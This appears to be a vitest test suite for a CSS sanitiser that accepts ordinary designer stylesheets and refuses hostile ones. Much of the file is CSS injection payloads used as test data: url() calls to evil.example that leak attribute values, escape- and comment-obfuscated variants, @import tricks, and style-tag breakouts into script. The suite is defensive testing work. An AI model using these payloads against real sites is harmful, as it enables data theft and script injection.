import { describe, expect, test } from "vitest";
import { safeCustomCss } from "./custom-css.ts";

const refused = (css: string) => expect(safeCustomCss(css), css).toMatchObject({ ok: false, reason: expect.stringMatching(/\w/) });

describe("accepts what designers write", () => {
  test.each([
    "",
    ".gh-card { border-radius: 16px; }",
    ".gh-button--primary:hover { background: color-mix(in srgb, #f00 20%, var(--gh-button)); }",
    ".gh-page { background: url(/assets/bg.svg) no-repeat; }",
    '.gh-page { background: url("assets/bg.png"), linear-gradient(45deg, #fff, #000 10%); }',
    ".gh-page { background: url('data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22/%3E') }",
    ".gh-page { background: url(data:image/png;base64,iVBORw0KGgo//8=) }",
    "@media (width < 600px) and (prefers-color-scheme: dark) { .gh-card { margin: -1.5e2px calc(1px + 2em); } }",
    "@keyframes rise { from { opacity: 0 } to { opacity: 1 } }",
    "/* url(https://only.a.comment) @import */ .gh-title::after { content: '\\201C hi'; }",
    ".gh-title { content: 'Grüße, 世界'; filter: url(#soft); }",
    ".gh-card { .gh-title { color: red } &:focus-within { outline: 1px solid } }",
    ":root { --gh-accent: #123456; }",
  ])("%s", (css) => {
    expect(safeCustomCss(css)).toEqual({ ok: true, css });
  });
});

describe("lets nothing reach another origin", () => {
  test.each([
    "input[value^=a] { background: url(https://evil.example/a) }",
    "a { background: url(http://evil.example) }",
    "a { background: URL( 'https://evil.example' ) }",
    'a { background: url("//evil.example/x") }',
    "a { background: url(//evil.example/x) }",
    "a { background: url(\\2f\\2f evil.example) }",
    "a { background: url(/\\5c evil.example) }",
    "a { background: url('\\\\\\\\evil.example') }",
    "a { background: url('/\\9/evil.example') }",
    "a { background: url(https:evil.example) }",
    "a { background: url('ht\\\ntps://evil.example') }",
    "a { background: url(ftp://evil.example) }",
    "a { background: url(blob:x) }",
    "a { background: url(data:text/html,x) }",
    "a { background: url(data:text/css,x) }",
    "a { background: url(javascript:alert(1)) }",
    "a { background: u\\72l(https://evil.example) }",
    "a { background: \\75\\72\\6C(https://evil.example) }",
    "a { background: \\000075rl('https://evil.example') }",
    "a { background: u\\rl('https://evil.example') }",
    "a { background: u/**/rl(https://evil.example) }",
    "a { background: url(/**/https://evil.example) }",
    "a { background: url/**/(https://evil.example) }",
    "a { background: url('/ok' 'https://evil.example') }",
    "a { background: url(var(--x)) }",
    "a { background: image-set('https://evil.example/x' 1x) }",
    "a { background: -webkit-image-set(url(https://evil.example/x) 1x) }",
    "a { background: im\\61ge-set('/x' 1x) }",
    ":root { --x: '/\\2f evil.example' } a { background: image-set(var(--x)) }",
    "a { background: image('https://evil.example') }",
    "a { background: src('https://evil.example') }",
    "a { background: s\\72 c(var(--x)) }",
    "a { cursor: url(https://evil.example/c.cur), auto }",
    "a { filter: url(https://evil.example/f.svg#x) }",
    "@font-face { font-family: x; src: url(https://evil.example/f); unicode-range: U+61 }",
    "@font-face { font-family: x; src: local('x') }",
    ":root { --x: //evil.example }",
    "a { content: '//evil.example' }",
    ".gh-page { background: url(/realms/acme/authorize?redirect_uri=x&state=a) }",
    ".gh-page { background: url(/x\\3f state=a) }",
    ".gh-page { background: url(https://user@self.invalid/x) }",
  ])("%s", refused);

  test.each([
    "@import '/x.css';",
    "@IMPORT url(x);",
    "@\\69mport 'x';",
    "@im\\70 ort 'x';",
    "@/**/import 'x';",
    "@charset 'utf-16';",
    "@namespace url(http://x);",
    "@document url(x) { a { b: c } }",
    "@font-feature-values x { }",
    "@unheard-of;",
  ])("%s", refused);
});

describe("cannot be read in two ways", () => {
  test.each([
    ["a style sheet that ends its element", "a { } </style><script>alert(1)</script>"],
    ["the same, escaped", "a { } <\\/style>"],
    ["an HTML comment", "<!-- a { } -->"],
    ["an expression", "a { width: expression(alert(1)) }"],
    ["an expression, escaped", "a { width: e\\78pression(alert(1)) }"],
    ["an expression, split", "a { width: expr/**/ession(alert(1)) }"],
    ["javascript:", "a { background: javascript:alert(1) }"],
    ["javascript:, split", "a { background: java/**/script/**/:alert(1) }"],
    ["a binding", "a { -moz-binding: none }"],
    ["a behaviour", "a { behavior: none }"],
    ["an open brace", "a { color: red"],
    ["a stray brace", "a { color: red } }"],
    ["crossed brackets", "a { b: ( } )"],
    ["an open bracket", "a { b: [ "],
    ["an open function", "a { b: calc(1px "],
    ["an open comment", "a { } /* and so on"],
    ["an open comment that looks closed", "a { } /*/"],
    ["an open quote", "a { content: 'x }"],
    ["a quote broken by a newline", "a { content: 'x\n' }"],
    ["an open address", "a { b: url(x"],
    ["a quote inside a bare address", "a { b: url(x'y) }"],
    ["a space inside a bare address", "a { b: url(x y) }"],
    ["a backslash before a newline", "a { b: c\\\n }"],
    ["a backslash at the end", "a { } \\"],
    ["NUL", "a { b: c\u0000 }"],
    ["another control character", "a { b: u\u0001rl(x) }"],
    ["a lone surrogate", "a { content: '\ud800' }"],
    ["other alphabets outside quotes", "×url(/*) { } */ a { }"],
    ["a number glued to url(, whose bracket hides a comment", "a { b: 1url(/*)'*/ url(https://evil.example) /*'*/) }"],
    ["the same with an exponent", "a { b: 1e3url(/*)'*/ url(/x) /*'*/) }"],
    ["a range glued to url(", "a { b: u+0url(/x) }"],
  ])("%s", (_name, css) => refused(css));

  test("nor be larger than 64 KiB, counted in bytes", () => {
    const sheet = (bytes: number) => `/*${"é".repeat((bytes - 4) / 2)}*/`;
    expect(safeCustomCss(sheet(64 * 1024)).ok).toBe(true);
    refused(sheet(64 * 1024 + 2));
  });
});
